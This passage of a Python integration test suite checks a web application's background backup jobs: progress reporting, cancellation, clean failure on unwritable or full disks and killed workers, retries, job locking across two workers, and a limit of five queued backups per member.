    return [n for n in os.listdir(os.path.join(t.var, "exports")) if n.startswith("%d-" % backup)]


def wait_running(agent, backup, seconds=60):
    deadline = time.time() + seconds
    while time.time() < deadline:
        st = status(agent, backup)
        if st["status"] == "running" and st["done"] > 0:
            return st
        expect(st["status"] in ("queued", "running"), "the backup ended early: %r" % st)
        time.sleep(0.05)
    raise AssertionError("backup %d never ran" % backup)


def retry_until_ready(t, agent, backup, seconds=120):
    """Makes the failed backup's job, tried again later, due now and waits
    until the retry has made the backup ready."""
    t.psql("UPDATE jobs SET run_at = now() WHERE kind = 'backup' AND finished_at IS NULL; "
           "NOTIFY sangdam_jobs, 'job'")
    deadline = time.time() + seconds
    while status(agent, backup)["status"] != "ready" and time.time() < deadline:
        time.sleep(0.2)
    expect(status(agent, backup)["status"] == "ready",
           "the retry ended %r" % status(agent, backup))


def test_progress_moves_until_ready(s):
    t = second_stack(s)
    b = big(t)
    backup = start_backup(b, "csv")
    seen = wait_done(b, backup)
    expect(seen[-1]["status"] == "ready", "the backup ended %r" % seen[-1])
    done = [st["done"] for st in seen if st["status"] == "running"]
    middle = {d for d in done if 0 < d < BIG}
    expect(len(middle) >= 1, "no progress between 0 and %d was shown: %r" % (BIG, done))
    expect(done == sorted(done), "the progress went back: %r" % done)
    expect(seen[-1]["done"] == seen[-1]["total"] == BIG, "the end shows %r" % seen[-1])
    body = download(b, backup).body
    expect(body.count(b"\r\n") == BIG + 1, "the file has %d lines" % body.count(b"\r\n"))


def test_cancel_stops_and_removes_the_partial_file(s):
    t = second_stack(s)
    b = big(t)
    backup = start_backup(b, "zip")
    wait_running(b, backup)
    token = csrf_of(b.client, "/a/%s/backups" % b.code)
    r = b.client.post("/a/%s/backups/%d/cancel" % (b.code, backup), {"confirm": "1"}, csrf=token)
    expect_see_other(r, "/a/%s/backups" % b.code, what="POST cancel")
    deadline = time.time() + 60
    while partial_files(t, backup) and time.time() < deadline:
        time.sleep(0.2)
    expect(status(b, backup)["status"] == "cancelled", "the status is %r" % status(b, backup))
    expect(partial_files(t, backup) == [], "the cancelled backup left %r" % partial_files(t, backup))
    n = one(t, "SELECT count(*) FROM account_history WHERE action = 'backup_cancel'")
    expect(int(n) >= 1, "cancelling wrote no history entry")
    again = start_backup(b, "zip")
    expect(wait_done(b, again)[-1]["status"] == "ready", "a new backup after a cancel failed")


def test_failed_write_then_retry_succeeds(s):
    import os
    t = second_stack(s)
    b = big(t)
    exports = os.path.join(t.var, "exports")
    mode = os.stat(exports).st_mode
    os.chmod(exports, 0o500)  # the worker's user can no longer write there (a full disk)
    try:
        backup = start_backup(b, "jsonl")
        seen = wait_done(b, backup)
    finally:
        os.chmod(exports, mode)
    expect(seen[-1]["status"] == "failed", "an unwritable folder ended %r" % seen[-1])
    expect(partial_files(t, backup) == [], "the failed backup left %r" % partial_files(t, backup))
    retry_until_ready(t, b, backup)


def test_killed_worker_fails_the_backup_and_the_retry_succeeds(s):
    import os
    import signal
    t = second_stack(s)
    b = big(t)
    backup = start_backup(b, "zip")
    wait_running(b, backup)
    with open(os.path.join(t.var, "run", "worker.pid")) as f:
        os.kill(int(f.read().strip()), signal.SIGKILL)
    time.sleep(0.5)
    expect(partial_files(t, backup), "the killed worker left no partial file to clean")
    # two minutes without a heartbeat: another worker's sweep fails it
    t.psql("UPDATE backups SET heartbeat_at = now() - interval '3 minutes' WHERE id = %d" % backup)
    t.sangdamctl("start", extra_env={"SANGDAM_PG_FAST": "1"}, timeout=300)
    sweep_until(t, "SELECT status FROM backups WHERE id = %d" % backup, "ready",
                what="the killed backup, retried")
    st = one(t, "SELECT attempts FROM jobs WHERE kind = 'backup' "
                "AND (payload->>'backup')::bigint = %d" % backup)
    expect(int(st) == 2, "the job ran %s times, not twice" % st)
    expect(partial_files(t, backup) == [one(t, "SELECT file_name FROM backups WHERE id = %d"
                                              % backup)], "files: %r" % partial_files(t, backup))


def test_full_disk_fails_the_backup_cleanly_then_the_retry_succeeds(s):
    import os
    import subprocess
    from testlib import Skip
    t = second_stack(s)
    b = big(t)
    exports = os.path.join(t.var, "exports")
    st = os.stat(exports)
    # a 256-KiB file system over the exports folder: the 30,000-message CSV does not fit
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k,uid=%d,gid=%d,mode=750"
                              % (st.st_uid, st.st_gid), "tmpfs", exports], capture_output=True)
    if mounted.returncode != 0:
        raise Skip("cannot mount a small file system (not root?): %s" % mounted.stderr.strip())
    try:
        backup = start_backup(b, "csv")
        seen = wait_done(b, backup)
        expect(seen[-1]["status"] == "failed", "a full disk ended %r" % seen[-1])
        expect(one(t, "SELECT error FROM backups WHERE id = %d" % backup) == "write",
               "the error is not the write's")
        expect(os.listdir(exports) == [], "the full disk keeps %r" % os.listdir(exports))
    finally:
        subprocess.run(["umount", "-l", exports], capture_output=True)
    retry_until_ready(t, b, backup)


def test_two_workers_never_run_one_job(s):
    import os
    import re as regex
    import subprocess
    t = second_stack(s)
    b = big(t)
    conf = os.path.join(t.var, "sangdam.conf")
    owner = os.stat(os.path.join(t.var, "exports"))
    worker = os.path.join(t.root, os.environ.get("BUILD", "build"), "cgi-bin", "worker")
    command = [worker, "-c", conf]
    if os.getuid() == 0:
        command = ["setpriv", "--reuid=%d" % owner.st_uid, "--regid=%d" % owner.st_gid,
                   "--init-groups"] + command
    log = open(os.path.join(t.var, "log", "worker.log"), "ab")
    extra = subprocess.Popen(command, stdout=log, stderr=log)
    try:
        time.sleep(1)  # let it connect and listen
        backups = [start_backup(b, "csv") for _ in range(4)]
        for backup in backups:
            expect(wait_done(b, backup)[-1]["status"] == "ready", "backup %d did not finish" % backup)
    finally:
        extra.terminate()
        extra.wait(timeout=30)
        log.close()
    ids = ",".join(str(x) for x in backups)
    attempts = one(t, "SELECT string_agg(attempts::text, ',') FROM jobs WHERE kind = 'backup' "
                      "AND (payload->>'backup')::bigint IN (%s)" % ids)
    expect(attempts == "1,1,1,1", "jobs were taken more than once: %r" % attempts)
    with open(os.path.join(t.var, "log", "worker.log"), encoding="utf-8", errors="replace") as f:
        ready = regex.findall(r" (\d+) - worker: backup (\d+) ready", f.read())
    done = [(pid, int(backup)) for pid, backup in ready if int(backup) in backups]
    expect(sorted(x[1] for x in done) == sorted(backups), "each backup is not ready once: %r" % done)
    expect(len({pid for pid, _ in done}) == 2, "the two workers did not share the work: %r" % done)


def test_at_most_five_backups_at_once(s):
    """A member cannot queue backups over and over (each writes the whole period again):
    with four queued, ten starts sent at once give one more and nine refusals; with five
    queued or running, a start is refused with the reason."""
    from test_races import in_parallel
    a = Agent(s)
    base = "/a/%s/backups" % a.code
    queue = ("INSERT INTO backups (account_id, account_code, scope, reason, format) "
             "SELECT %s, %s, 'account', 'member', 'csv' FROM generate_series(1, %%d)"
             % (a.account_id, sql_text(a.code)))
    s.psql(queue % 4)
    a.csrf = csrf_of(a.client, base)
    results = in_parallel(a, "/backups", [{"format": "zip", "from": "", "to": ""}] * 10)
    expect(sorted(results) == [303] + [422] * 9, "ten starts at once with four queued answered %r" % results)
    count = one(s, "SELECT count(*) FROM backups WHERE account_id = %s AND reason = 'member'" % a.account_id)
    expect(count == "5", "%s member backups after the starts, not 5" % count)
    s.psql(queue % 1)  # five queued even when the one started has finished already
    r = a.client.post(base, {"format": "csv", "from": "", "to": ""}, csrf=a.csrf)
    expect_status(r, 422, what="a start while five are queued or running")
    expect("이미 진행 중인 백업이 5개 있습니다" in r.text, "the refusal does not say why", r)
